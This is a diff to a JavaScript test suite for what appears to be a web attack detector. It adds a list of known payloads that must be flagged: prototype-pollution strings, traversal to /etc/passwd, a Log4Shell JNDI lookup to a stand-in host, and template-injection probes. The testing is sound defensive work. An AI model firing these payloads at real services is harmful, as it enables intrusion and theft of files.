@@ -56,9 +56,32 @@ describe("character classes", () => {
       assert.notEqual(charClassesOf(syntax) & ~PLAIN_CLASSES, 0, syntax);
   });
 
+  it("never screens out a value a detector flags (known payloads)", () => {
+    const payloads = [
+      "constructor.prototype.polluted",
+      "constructor[prototype][x]",
+      "a[__proto__][b]",
+      "../../etc/passwd",
+      "boot.ini",
+      "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
+      "file:///etc/passwd",
+      "${jndi:ldap://evil.example/a}",
+      "{{7*7}}",
+      "<%= 7*7 %>",
+      "#{7*7}",
+      "__class__.__mro__",
+    ];
+    for (const raw of payloads) {
+      const canonical = canonicalize(raw);
+      const flagged = DETECTORS.some((d) => d.detect({ location: "query.file", kind: "query", raw, canonical, name: "file" }));
+      assert.ok(flagged, `${raw} should be flagged by some detector`);
+      assert.deepEqual(unsoundScreens(raw), []);
+    }
+  });
+
   it("never screens out a value a detector flags (random values)", () => {
     const alphabet = fc.constantFrom(..."abcdeijlnoprstuvwxyz0123456789 ./\\:$%{}[]()<>@#_=+-'\";|&`!*?,~\n".split(""));
-    const words = fc.constantFrom("etc", "passwd", "jndi", "ldap", "__proto__", "constructor", "{{", "${", "boot.ini", "../", "file:");
+    const words = fc.constantFrom("etc", "passwd", "jndi", "ldap", "__proto__", "constructor", "prototype", "{{", "${", "boot.ini", "../", "file:");
     const value = fc.array(fc.oneof(alphabet, words), { maxLength: 24 }).map((parts) => parts.join(""));
     fc.assert(
       fc.property(value, (raw) => unsoundScreens(raw).length === 0),
